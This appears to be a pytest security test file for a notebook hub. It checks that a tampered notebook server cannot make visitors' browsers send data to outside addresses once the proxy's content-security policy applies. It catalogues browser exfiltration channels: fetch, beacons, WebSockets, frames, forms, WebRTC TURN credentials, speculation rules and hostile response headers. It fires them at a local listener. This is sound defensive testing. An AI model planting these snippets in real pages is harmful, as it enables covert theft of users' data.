"""A page of a notebook server can not phone home from the reader's browser, not even where the server was changed."""

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import docker
import httpx
import pytest
from playwright.sync_api import Browser, expect

from hub.names import network_name
from tests.journeys.screens import Visitor
from tests.support.browser import chromium
from tests.support.hub import House, RunningHub, containers_of, hub_settings, running_hub
from tests.support.outside import OnHost, host_listener

CHANNELS = {
    "image": "new Image().src = there",
    "fetch": "fetch(there, {mode: 'no-cors'})",
    "request": "const x = new XMLHttpRequest(); x.open('GET', there); x.send()",
    "beacon": "navigator.sendBeacon(there, 'a row of data')",
    "socket": "new WebSocket(there.replace('http', 'ws'))",
    "events": "new EventSource(there)",
    "script": "add('script', {src: there})",
    "style": "add('link', {rel: 'stylesheet', href: there})",
    "picture-of-a-style": "add('div', {style: `background: url(${there}); width: 9px; height: 9px`})",
    "font": "const f = new FontFace('f', `url(${there})`); f.load()",
    "frame": "add('iframe', {src: there})",
    "object": "add('object', {data: there})",
    "video": "add('video', {src: there, autoplay: ''})",
    "form": "const f = add('form', {action: there, target: 'hidden'}); add('iframe', {name: 'hidden'}); f.submit()",
    "module": "import(there)",
    "frame-on-health-check": "within('/_chp_healthz', there)",
    "frame-on-unknown-path": "within('/no/such/page', there)",
    "frame-on-hubs-file": "within('/hub/static/favicon.ico', there)",
    "frame-on-encoded-path": "within(location.pathname.replace('/user/', '/%75ser/') + '/other', there)",
    "frame-on-refused-address": "within('/' + 'x'.repeat(20000), there)",
    "frame-on-broken-address": "within('/%E0', there)",
    "report": "add('base', {href: '/elsewhere/'})",
    "report-only": "add('base', {href: '/elsewhere/'})",
    "link": "/* the server's own header asks for it */",
    "rules": "/* so does this one */",
}
"""Ways a page can reach `there`. `within` tries from a frame of the page's own origin, `base` breaks the policy that
this server sends itself, with an address to report to."""

LIMITS = {
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; "
    "s.textContent = JSON.stringify({prefetch: [{urls: [there], eagerness: 'immediate'}]}); document.head.append(s)",
    "navigation": "setTimeout(() => { location = there }, 500)",
    "peer": "const p = new RTCPeerConnection({iceServers: [{urls: `turn:${new URL(there).host}?transport=tcp`, "
    "username: 'a row of data', credential: 'x'}]}); p.createDataChannel('x'); "
    "p.createOffer().then(o => p.setLocalDescription(o))",
}
"""What no header prevents, in Chromium: the standard tier does not promise it, the strict tier does."""

HEADERS = {
    "Content-Security-Policy": "base-uri 'none'; report-uri THERE/report",
    "Content-Security-Policy-Report-Only": "base-uri 'none'; report-uri THERE/report-only",
    "Report-To": '{"group": "there", "max_age": 60, "endpoints": [{"url": "THERE/report-to"}]}',
    "Reporting-Endpoints": 'there="THERE/endpoint"',
    "NEL": '{"report_to": "there", "max_age": 60, "success_fraction": 1.0}',
    "Link": "<THERE/link>; rel=preload; as=image",
    "Speculation-Rules": '"THERE/rules"',
    "Service-Worker-Allowed": "/",
    "Refresh": "600; url=THERE/refresh",
    "Alt-Svc": 'h2="there:443"',
}
"""What a changed server's answer may name an address in, for the browser to go to of its own accord."""

SERVER = """
import http.server, json, sys, urllib.parse
CHANNELS, LIMITS, HEADERS = (json.loads(argument) for argument in sys.argv[1:])
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        asked = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
        there, tried = asked.get("there", [""])[0], asked.get("try", CHANNELS if "there" in asked else [])
        script = "function within(path, there) { const f = add('iframe', {src: path}); f.onload = () => {"
        script += "f.contentWindow.eval(`setInterval(() => fetch('${there}', {mode: 'no-cors'}), 500)`) } }"
        script += "function add(tag, given) { const e = document.createElement(tag);"
        script += "for (const n in given) e.setAttribute(n, given[n]); document.body.append(e); return e }"
        for name, action in {name: {**CHANNELS, **LIMITS}[name] for name in tried}.items():
            at = json.dumps(there + "/" + name)
            script += "(() => { const there = %s; try { %s } catch (e) {} })();" % (at, action)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        for header in HEADERS if there else []:
            self.send_header(header, HEADERS[header].replace("THERE", there))
        self.end_headers()
        self.wfile.write(("<body><script>%s</script>" % script).encode())
http.server.ThreadingHTTPServer(("0.0.0.0", 8888), Page).serve_forever()
"""


@pytest.fixture(scope="module")
def changed_image() -> Iterator[str]:
    """An image whose server sends no policy and a page that tries every way out."""
    client = docker.from_env()
    container = client.containers.create("myelin/notebook:latest")
    program = json.dumps(["python", "-I", "-c", SERVER, *map(json.dumps, (CHANNELS, LIMITS, HEADERS))])
    container.commit("myelin-test/changed", "latest", conf={"Cmd": json.loads(program)})
    container.remove()
    yield "myelin-test/changed:latest"
    client.images.remove("myelin-test/changed:latest")


@pytest.fixture(scope="module")
def server(
    tmp_path_factory: pytest.TempPathFactory, provider: int, changed_image: str
) -> Iterator[tuple[RunningHub, Any]]:
    folder = tmp_path_factory.mktemp("changed")
    with running_hub(hub_settings(folder, provider, notebook_image=changed_image)) as hub:
        house = House(hub)
        rosa = house.person()
        study = house.project(rosa)
        assert hub.visitor(rosa).spawn(rosa, study).is_success
        yield hub, containers_of(study)[0]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


def channels_through(browser: Browser, page_url: str, listener: OnHost, only: str = "") -> set[str]:
    """Open a page that tries every channel to the listener, or only one, and return those that got there."""
    page = browser.new_page()
    page.goto(f"{page_url}?there={quote(f'http://127.0.0.1:{listener.port}')}{only and f'&try={only}'}")
    page.wait_for_timeout(3000)
    page.close()
    return {re.split("[ ?]", line.split("/")[1])[0] for line in listener.seen if "/" in line}


def addresses(server: tuple[RunningHub, Any]) -> tuple[str, str]:
    """Return the page's address through the public proxy, and the container's own."""
    hub, container = server
    person, project = container.labels["org.myelin.person"], container.labels["org.myelin.project"]
    inside = container.attrs["NetworkSettings"]["Networks"][network_name(hub.settings, project)]["IPAddress"]
    path = f"/user/{person}/{project}/page"
    return f"http://{person}.notebooks.localhost:{hub.settings.hub_port}{path}", f"http://{inside}:8888{path}"


def test_every_way_out_is_open_where_nobody_sets_a_policy(browser: Browser, server: tuple[RunningHub, Any]) -> None:
    _, direct = addresses(server)
    with host_listener() as listener:
        assert channels_through(browser, direct, listener) == set(CHANNELS)


def test_none_is_open_through_the_public_proxy(browser: Browser, server: tuple[RunningHub, Any]) -> None:
    proxied, _ = addresses(server)
    with host_listener() as listener:
        assert channels_through(browser, proxied, listener) == set()


def test_what_no_policy_prevents_is_still_what_the_documents_say(
    browser: Browser, server: tuple[RunningHub, Any]
) -> None:
    proxied, _ = addresses(server)
    with host_listener() as listener:
        assert channels_through(browser, proxied, listener, only="navigation") == {"navigation"}
    with host_listener() as listener:
        assert channels_through(browser, proxied, listener, only="speculation") == {"speculation"}
    with host_listener() as listener:
        channels_through(browser, proxied, listener, only="peer")
        assert listener.seen


PATHS = ("/", "/_chp_healthz", "/no/such/page", "/hub/static/favicon.ico", "/hub/home", "/%E0", "/user/{}/{}/page")


@pytest.mark.parametrize("path", [*PATHS, "/%75ser/{}/{}/page", "/user/{}/{}/page?there=http://there"])
def test_every_answer_on_a_notebook_host_has_the_proxys_policy_and_none_of_the_servers(
    server: tuple[RunningHub, Any], path: str
) -> None:
    hub, container = server
    person, project = container.labels["org.myelin.person"], container.labels["org.myelin.project"]
    answer = ask(hub, f"{person}.notebooks.localhost", path.format(person, project))
    (policy,) = answer.headers.get_list("content-security-policy")
    assert policy.startswith("default-src 'self'")
    assert "report" not in policy
    assert {header.lower() for header in HEADERS} & set(answer.headers) == {"content-security-policy"}
    assert answer.headers["cross-origin-opener-policy"] == "same-origin"
    assert answer.headers["x-dns-prefetch-control"] == "off"
    assert answer.headers["referrer-policy"] == "same-origin"


def test_a_server_can_leave_no_service_worker_for_the_next(server: tuple[RunningHub, Any]) -> None:
    hub, container = server
    host = f"{container.labels['org.myelin.person']}.notebooks.localhost"
    script = f"/user/{container.labels['org.myelin.person']}/{container.labels['org.myelin.project']}/worker.js"
    assert ask(hub, host, script).status_code == 200
    assert ask(hub, host, script, {"Service-Worker": "script"}).status_code == 403


def test_signing_in_at_a_server_clears_what_another_left(hub: RunningHub, house: House) -> None:
    rosa = house.person()
    study = house.project(rosa)
    answer = hub.visitor(rosa).spawn(rosa, study)
    assert answer.is_success, answer.text
    (callback,) = [past for past in answer.history if past.url.path.endswith(f"/{study}/oauth_callback")]
    assert callback.headers["clear-site-data"] == '"cache", "storage"'


def test_jupyterlab_works_with_all_of_it(browser: Browser, hub: RunningHub, house: House) -> None:
    rosa = house.person()
    study = house.project(rosa)
    context = browser.new_context(viewport={"width": 1280, "height": 1500})
    page = context.new_page()
    page.goto(f"{hub.settings.hub_url}/hub/spawn/{rosa}/{study}")
    page.locator("input[name=sub]").fill(f"subject-{rosa}")
    page.locator("input[name=sub]").press("Enter")
    welcome = page.locator(".jp-DirListing-item", has_text="Welcome.ipynb")
    expect(welcome).to_be_visible(timeout=90_000)
    welcome.dblclick()
    expect(page.get_by_text("Python 3 (ipykernel) | Idle")).to_be_visible(timeout=90_000)
    visitor = Visitor(rosa, hub.settings, context, page, notebook=page)
    assert "42" in visitor.run_cell("print(6 * 7)", until="42")
    context.close()


def test_the_hubs_own_pages_keep_their_own(hub: RunningHub) -> None:
    answer = ask(hub, "notebooks.localhost", "/hub/api/")
    assert answer.is_success
    assert "script-src" not in answer.headers.get("content-security-policy", "")


def ask(hub: RunningHub, host: str, path: str, headers: dict[str, str] | None = None) -> httpx.Response:
    """Ask the public proxy for a path on this host."""
    port = hub.settings.hub_port
    return httpx.get(f"http://127.0.0.1:{port}{path}", headers={"Host": f"{host}:{port}", **(headers or {})})
